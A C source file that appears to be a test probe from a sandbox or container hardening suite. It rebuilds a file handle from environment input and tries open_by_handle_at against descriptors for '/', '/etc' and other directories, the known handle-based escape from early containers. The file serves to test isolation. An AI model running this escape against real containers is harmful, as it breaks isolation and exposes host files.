// Opens a file by its handle, which needs no path: the way out of early containers.
#include "proof.h"

int main(void) {
    bounded();
    union { struct file_handle handle; char bytes[sizeof(struct file_handle) + 128]; } secret;
    const char *hex = env("SECRET_HANDLE");
    secret.handle.handle_type = env_number("SECRET_HANDLE_TYPE");
    secret.handle.handle_bytes = strlen(hex) / 2;
    for (unsigned at = 0; at < secret.handle.handle_bytes; at++) {
        unsigned byte;
        sscanf(hex + 2 * at, "%2x", &byte);
        secret.handle.f_handle[at] = byte;
    }
    // Any descriptor of the same file system will do.
    const char *places[] = {".", env("CODE"), "/", "/usr", "/tmp", "/etc"};
    for (size_t at = 0; at < sizeof places / sizeof *places; at++) {
        int mount = open(places[at], O_RDONLY);
        print_fd(open_by_handle_at(mount, &secret.handle, O_RDONLY));
        close(mount);
    }
    return 0;
}
